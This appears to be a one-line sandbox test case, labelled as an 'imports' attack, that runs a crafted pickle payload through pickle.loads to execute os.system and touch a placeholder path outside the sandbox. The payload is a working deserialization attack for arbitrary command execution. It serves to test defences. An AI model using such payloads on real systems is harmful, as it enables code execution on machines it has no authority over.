# category: imports
# attack: pickle.loads of a crafted payload calling os.system
# profile: basic
import pickle
pickle.loads(b"cos\nsystem\n(S'touch @OUTSIDE@'\ntR.")
